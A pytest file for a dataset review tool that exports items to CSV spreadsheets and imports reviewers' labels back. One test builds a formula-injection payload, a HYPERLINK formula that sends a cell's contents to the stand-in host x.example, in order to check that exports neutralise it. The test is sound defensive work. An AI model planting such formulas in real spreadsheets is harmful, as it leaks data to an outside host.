"""The spreadsheet: safe to open, read back without guessing, and never half-taken."""

from __future__ import annotations

import csv
import io
import itertools
import re
from pathlib import Path

import pytest

from polyfact_dataset.common.errors import DataError
from polyfact_dataset.items.evidence import item_digest
from polyfact_dataset.schema import OPTIONS
from polyfact_dataset.verification.items import load_sample
from polyfact_dataset.verification.journal import Journal
from polyfact_dataset.verification.sheets import defused, export, import_sheet
from tests.support import judged as releases
from tests.support.command import call, done
from tests.support.judged import sampled


def sheet(path: Path) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(path.read_text(encoding="utf-8-sig"), newline="")))


def write(path: Path, rows: list[dict[str, str]], delimiter: str = ",", encoding: str = "utf-8-sig") -> Path:
    text = io.StringIO(newline="")
    writer = csv.DictWriter(text, list(rows[0]), delimiter=delimiter)
    writer.writeheader()
    writer.writerows(rows)
    path.write_bytes(text.getvalue().encode(encoding))
    return path


def filled(folder: Path, path: Path, labels: list[str]) -> list[dict[str, str]]:
    export(folder, "ar", path, reviewer="", first=None)
    rows = sheet(path)
    for row, label in zip(rows, labels):
        row["label"] = label
    return rows


def test_a_sheet_holds_the_items_with_a_byte_order_mark(tmp_path: Path) -> None:
    folder = sampled(tmp_path)
    assert export(folder, "ar", tmp_path / "a.csv", reviewer="", first=4) == 4
    assert (tmp_path / "a.csv").read_bytes().startswith(b"\xef\xbb\xbffact_id,")
    rows, items = sheet(tmp_path / "a.csv"), load_sample(folder).of("ar", 4)
    for row, item in zip(rows, items, strict=True):
        assert (row["fact_id"], row["item"], row["question"]) == (item.fact_id, f"#{item.item}", item.question)
        assert row["marked"] == f"{'ABCD'[item.marked]}: {item.answer}" and row["label"] == row["note"] == ""
    assert not any("judge" in name for name in rows[0])


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠", " ="])
def test_no_cell_is_a_formula(tmp_path: Path, start: str) -> None:
    name = f'{start}HYPERLINK("http://x.example?"&A1)'
    assert defused(name) == f"'{name}" and defused("R=1") == "R=1" and defused("") == ""
    folder = sampled(tmp_path, label=name)
    journal = Journal(folder, "amina")
    with journal.locked():
        journal.add(load_sample(folder).of("en")[0], "correct", name.strip())
    export(folder, "en", tmp_path / "a.csv", reviewer="amina", first=None)
    for row in sheet(tmp_path / "a.csv"):
        assert not any(cell.lstrip(" ").startswith(tuple("=+-@\t\r＝＋－＠")) for cell in row.values())
    # The note comes back as it was.
    assert import_sheet(folder, tmp_path / "a.csv", reviewer="amina")["same"] == 1


def test_a_digest_that_looks_like_a_number_is_none_to_a_spreadsheet_program(tmp_path: Path) -> None:
    def digest(name: str) -> str:
        own = releases.row("P36", 0, "ar", name)
        return item_digest(own["question"], own["answer_text"], [own[option] for option in OPTIONS])

    name = next(name for name in map(str, itertools.count()) if re.fullmatch("[0-9]+(e[0-9]{1,3})?", digest(name)))
    folder = sampled(tmp_path, {"P36": 1}, label=name)
    rows = filled(folder, tmp_path / "a.csv", ["correct"])
    assert rows[0]["item"] == f"#{digest(name)}"
    # A sheet of an earlier version has no mark.
    for cell, outcome in ((rows[0]["item"], "new"), (digest(name), "same")):
        path = write(tmp_path / "b.csv", [rows[0] | {"item": cell}])
        assert dict(import_sheet(folder, path, reviewer="amina")) == {outcome: 1}


@pytest.mark.parametrize(("delimiter", "encoding"), [(",", "utf-8-sig"), (";", "utf-8"), ("\t", "utf-16")])
def test_labels_come_back_from_any_spreadsheet_program(tmp_path: Path, delimiter: str, encoding: str) -> None:
    folder = sampled(tmp_path)
    rows = filled(folder, tmp_path / "a.csv", ["correct", " Ambiguous ", "", "INCORRECT"])
    path = write(tmp_path / "b.csv", rows[::-1], delimiter, encoding)
    assert dict(import_sheet(folder, path, reviewer="amina")) == {"new": 3, "missing": 3}
    reviews, items = Journal(folder, "amina").read(), load_sample(folder).of("ar")
    labels = [review and review.label for review in map(reviews.label, items)]
    assert labels == ["correct", "ambiguous", None, "incorrect", None, None]
    assert dict(import_sheet(folder, path, reviewer="amina")) == {"same": 3, "missing": 3}
    rows[0]["label"] = "incorrect"
    assert import_sheet(folder, write(path, rows), reviewer="amina")["changed"] == 1
    # A label that is taken out of the sheet is missing there; earlier labels stay.
    rows[0]["label"] = ""
    assert import_sheet(folder, write(path, rows), reviewer="amina")["missing"] == 4
    assert Journal(folder, "amina").read().label(items[0]).label == "incorrect"


def test_a_wrong_line_is_named_and_nothing_is_taken(tmp_path: Path) -> None:
    folder = sampled(tmp_path)
    good = filled(folder, tmp_path / "a.csv", ["correct"] * 6)
    for change, message in (
        ({"label": "fine"}, r"b\.csv line 7: label 'fine'; the labels are correct, ambiguous, incorrect"),
        ({"item": "0" * 16}, r"b\.csv line 7: Q\d+\|P\d+\|Q\d+ ar 0{16} is not in the sample"),
    ):
        path = write(tmp_path / "b.csv", [*good[:5], good[5] | change])
        with pytest.raises(DataError, match=message):
            import_sheet(folder, path, reviewer="amina")
    path = write(tmp_path / "b.csv", [*good, good[0], good[1] | {"label": "ambiguous"}])
    with pytest.raises(DataError, match=r"line 9: Q\d+\|P\d+\|Q\d+ ar has another label or note above"):
        import_sheet(folder, path, reviewer="amina")
    (tmp_path / "c.csv").write_text("question,label\nx,correct\n")
    with pytest.raises(DataError, match="heading has no fact_id, language, item"):
        import_sheet(folder, tmp_path / "c.csv", reviewer="amina")
    (tmp_path / "d.csv").write_bytes("fact_id,language,item,label\nä".encode("latin-1"))
    with pytest.raises(DataError, match="save it as `CSV UTF-8`"):
        import_sheet(folder, tmp_path / "d.csv", reviewer="amina")
    assert Journal(folder, "amina").read().labels == {}


def test_the_commands(tmp_path: Path) -> None:
    folder = sampled(tmp_path)
    path = tmp_path / "a.csv"
    assert done("verify", "export", path, "--language", "bn", "--folder", folder) == f"6 items: {path}\n"
    output = done("verify", "import", path, "--reviewer", "amina", "--folder", folder)
    assert output == "new 0, changed 0, same 0, missing 6\n"
    status, output = call("verify", "export", path, "--language", "xx", "--folder", folder)
    assert status == 2 and "no items in 'xx'; it has en, ar, bn" in output
